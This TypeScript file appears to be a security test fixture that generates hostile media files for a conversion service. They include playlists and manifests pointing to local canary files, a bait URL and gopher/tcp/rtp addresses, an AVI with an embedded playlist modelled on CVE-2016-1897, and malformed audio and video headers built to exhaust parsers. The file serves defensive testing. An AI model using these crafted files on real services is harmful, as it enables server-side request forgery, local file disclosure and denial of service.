/** Recordings that are lists of other files, and recordings with wild numbers. */

import { le16, le32, u8, u16, u32 } from '../fixtures/numbers.ts'
import { type Attack, attacksOn, type Bait, canary, heavy, join8 } from './attack.ts'

const addresses = (bait: Bait): string[] => [
  canary(bait, 'ts'),
  `file://${canary(bait, 'ts')}`,
  `${bait.url}/a.ts`,
  `concat:${canary(bait, 'ts')}|${bait.url}/b.ts`,
  `subfile,,start,0,end,100,,:${canary(bait, 'ts')}`,
  `crypto:${canary(bait, 'ts')}`,
  `data:text/plain,${canary(bait, 'ts')}`,
  `tcp://${bait.authority}`,
  `udp://127.0.0.1:${bait.udpPort}`,
  `gopher://${bait.authority}/c`,
  `rtp://127.0.0.1:${bait.udpPort}`,
  `async:cache:${bait.url}/d.ts`,
]
const playlist = (bait: Bait) =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${bait.url}/key"\n#EXT-X-MAP:URI="${canary(bait, 'ts')}"\n${addresses(
    bait,
  )
    .map(target => `#EXTINF:1,\n${target}\n`)
    .join('')}#EXT-X-ENDLIST\n`

/** Playlists and stream descriptions, which ffmpeg would follow whatever the file is called. */
const lists: Record<string, Attack['bytes']> = {
  'a playlist': playlist,
  'a playlist of playlists': bait =>
    `#EXTM3U\n${addresses(bait)
      .map(target => `#EXT-X-STREAM-INF:BANDWIDTH=1\n${target}\n`)
      .join('')}`,
  'a list of files to join': bait =>
    `ffconcat version 1.0\n${addresses(bait)
      .map(target => `file '${target}'\n`)
      .join('')}`,
  'a description of a session': bait =>
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${bait.udpPort} RTP/AVP 0\n`,
  'a manifest of DASH': bait =>
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">${addresses(bait)
      .map(
        target =>
          `<Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period>`,
      )
      .join('')}</MPD>`,
  'a manifest of Smooth Streaming, and a reference of Windows Media': bait =>
    `<ASX version="3.0">${addresses(bait)
      .map(target => `<Entry><Ref href="${target}"/></Entry>`)
      .join('')}</ASX>`,
  'a reference of RealMedia and of Winamp': bait =>
    `[playlist]\n${addresses(bait)
      .map((target, n) => `File${n + 1}=${target}\n`)
      .join('')}NumberOfEntries=12\n`,
  'a list of pictures': bait => `RTSPtext\n${addresses(bait).join('\n')}`,
}

const chunk = (type: string, ...data: (Uint8Array | string)[]) => {
  const body = join8(...data)
  return join8(type, le32(body.length), body, body.length % 2 ? '\0' : '')
}
const list = (type: string, ...chunks: Buffer[]) => chunk('LIST', type, ...chunks)
const riff = (type: string, ...chunks: Buffer[]) => chunk('RIFF', type, ...chunks)

/** An AVI whose subtitles are a playlist, as in the 2016 attacks on ffmpeg (CVE-2016-1897). */
const subtitled = (bait: Bait) => {
  const text = playlist(bait)
  const subtitles = join8('GAB2\0', le16(2), le32(2), 'x\0', le16(4), le32(text.length), text)
  const header = (kind: string, codec: string) =>
    chunk('strh', kind, codec, le32(0, 0, 0, 1, 25, 0, 100, 65_536, 0, 0, 0, 0))
  return riff(
    'AVI ',
    list(
      'hdrl',
      chunk('avih', le32(40_000, 0, 0, 0x10, 100, 0, 2, 65_536, 16, 16, 0, 0, 0, 0)),
      list(
        'strl',
        header('vids', 'MJPG'),
        chunk('strf', le32(40, 16, 16), le16(1, 24), 'MJPG', le32(768, 0, 0, 0, 0)),
      ),
      list('strl', header('txts', '\0\0\0\0'), chunk('strf')),
    ),
    list('movi', chunk('01tx', subtitles), chunk('00dc', Buffer.alloc(64))),
  )
}

const format = (channels: number, rate: number, { code = 1, bits = 16, align = 2 } = {}) =>
  chunk('fmt ', le16(code, channels), le32(rate, rate * align), le16(align, bits))
const waves: Record<string, Attack['bytes']> = {
  'sixty-five thousand channels': () =>
    riff('WAVE', format(65_535, 8000), chunk('data', Buffer.alloc(65_536))),
  'four thousand million samples a second': () =>
    riff('WAVE', format(1, 0xffff_ffff), chunk('data', Buffer.alloc(4096))),
  'blocks of nothing': () =>
    riff('WAVE', format(1, 8000, { align: 0, bits: 0 }), chunk('data', Buffer.alloc(4096))),
  'data of which there is no end': () =>
    join8(riff('WAVE', format(1, 8000)), 'data', le32(0xffff_ffff), Buffer.alloc(4096)),
  'a codec that nobody has': () =>
    riff('WAVE', format(1, 8000, { code: 0xdead }), chunk('data', Buffer.alloc(4096))),
  'lists in one another, ten thousand deep': () => {
    let inner: Buffer = Buffer.alloc(0)
    for (let n = 0; n < 10_000; n++) inner = list('INFO', inner)
    return riff('WAVE', format(1, 8000), inner, chunk('data', Buffer.alloc(4096)))
  },
}

const safe = (value: number) => u8((value >> 21) & 127, (value >> 14) & 127, (value >> 7) & 127, value & 127)
const id3 = (...frames: Buffer[]) => join8('ID3', u8(4, 0, 0), safe(Buffer.concat(frames).length), ...frames)
const frame = (id: string, data: string, length = data.length) => join8(id, safe(length), u16(0), data)
/** Frames of MPEG-1 layer III, 128 kbit/s, 44.1 kHz, silent. */
const silence = Buffer.concat(
  Array.from({ length: 40 }, () => join8(u8(0xff, 0xfb, 0x90, 0xc4), Buffer.alloc(413))),
)
const mp3s: Record<string, Attack['bytes']> = {
  'a cover that lies elsewhere': bait =>
    join8(
      id3(
        frame('APIC', `\0-->\0\x03\0${bait.url}/cover.png`),
        frame('WXXX', `\0\0${bait.url}/w`),
        frame('LINK', `APIC${bait.url}/l\0`),
      ),
      silence,
    ),
  'a tag longer than the file': () => join8('ID3', u8(4, 0, 0, 127, 127, 127, 127), silence),
  'frames longer than their tag': () => join8(id3(frame('TIT2', '\x03x', 0x0fff_ffff)), silence),
  'ten thousand chapters': () =>
    join8(
      id3(
        frame('CTOC', `toc\0\x03\xff${'toc\0'.repeat(255)}`),
        ...Array.from({ length: 10_000 }, (_, n) => frame('CHAP', `c${n}\0${'\0'.repeat(16)}`)),
      ),
      silence,
    ),
}

const metadata = (type: number, data: Buffer, length = data.length) =>
  join8(u8(type | 128), u32(length).subarray(1), data)
const flacs: Record<string, Attack['bytes']> = {
  'a cover that lies elsewhere, without a description of the sound': bait =>
    join8('fLaC', metadata(6, join8(u32(3, 3), '-->', u32(0, 9, 9, 24, 0, bait.url.length), bait.url))),
  'blocks longer than the file': () =>
    join8('fLaC', metadata(0, Buffer.alloc(34, 0xff)), metadata(4, Buffer.alloc(8, 0xff), 0xff_ffff)),
}

/** EBML elements with their sizes as given, which may be wrong. */
const element = (id: string, data: Uint8Array, length = data.length) =>
  join8(
    Buffer.from(id, 'hex'),
    u8(0x08),
    u32(length).subarray(0, 0),
    Buffer.from(length.toString(16).padStart(8, '0'), 'hex'),
    data,
  )
const ebml = element('1a45dfa3', join8(element('4282', Buffer.from('matroska'))))
const matroska: Record<string, Attack['bytes']> = {
  'elements in one another without an end': () => {
    let inner: Buffer = Buffer.alloc(0)
    for (let n = 0; n < 5000; n++) inner = element('1c53bb6b', inner)
    return join8(ebml, element('18538067', inner))
  },
  'elements longer than the file': () =>
    join8(ebml, element('18538067', element('1654ae6b', Buffer.alloc(64), 0x7fff_ffff), 0x7fff_ffff)),
  'attachments and links to other segments': bait =>
    join8(
      ebml,
      element(
        '18538067',
        join8(
          element(
            '1549a966',
            join8(element('3eb923', Buffer.alloc(16)), element('3e83bb', Buffer.from(canary(bait, 'ts')))),
          ),
          element(
            '1941a469',
            element(
              '61a7',
              join8(
                element('466e', Buffer.from(`../../..${canary(bait, 'ts')}`)),
                element('465c', Buffer.alloc(100)),
              ),
            ),
          ),
        ),
      ),
    ),
}

const ogg: Record<string, Attack['bytes']> = {
  'pages of no stream, endlessly': () =>
    Buffer.concat(
      Array.from({ length: 2000 }, (_, n) =>
        join8('OggS', u8(0, n === 0 ? 2 : 0), Buffer.alloc(8), le32(n, n, 0), u8(0)),
      ),
    ),
  'a comment longer than the file': () =>
    join8(
      'OggS',
      u8(0, 2),
      Buffer.alloc(8),
      le32(1, 0, 0),
      u8(1, 30),
      '\x03vorbis',
      le32(0xffff_ffff),
      Buffer.alloc(30, 0xff),
    ),
}

const plain = {
  wav: ['flac'],
  mp3: ['wav'],
  m4a: ['mp3'],
  ogg: ['mp3'],
  avi: ['wav'],
  mp4: ['mp3'],
  mov: ['wav'],
  mkv: ['mp3'],
  webm: ['wav'],
  aac: ['mp3'],
  opus: ['mp3'],
  wma: ['wav'],
  flac: ['wav'],
  paf: ['wav'],
}

export const mediaAttacks: Attack[] = heavy(
  [
    ...Object.entries(plain).flatMap(([source, targets], index) =>
      // One program reads them all, so an ordinary run sends only two of the lists under each name.
      attacksOn(source, lists, { targets }).map((attack, n) => ({ ...attack, heavy: (n + index) % 4 > 0 })),
    ),
    ...attacksOn('avi', { 'subtitles that are a playlist': subtitled }),
    ...attacksOn('wav', waves),
    ...attacksOn('mp3', mp3s, { targets: ['wav', 'm4a'] }),
    ...attacksOn('flac', flacs),
    ...attacksOn('mkv', matroska),
    ...attacksOn('webm', matroska),
    ...attacksOn('ogg', ogg),
    ...attacksOn('opus', ogg, { targets: ['wav'] }),
    ...attacksOn('paf', {
      'two thousand million channels': () =>
        join8(' paf', u32(0, 0, 0x7fff_ffff, 2, 0x7fff_ffff, 0), Buffer.alloc(4096)),
      'no rate and a format of its own': () => join8(' paf', u32(0, 0, 0, 99, 1, 0), Buffer.alloc(4096)),
    }),
    ...attacksOn('wma', {
      'objects longer than the file': () =>
        join8(
          Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
          le32(0xffff_ffff, 0x7fff_ffff, 0xffff_ffff),
          u8(1, 2),
          Buffer.alloc(512, 0xff),
        ),
    }),
  ],
  'ten thousand chapters',
  'data of which there is no end',
)
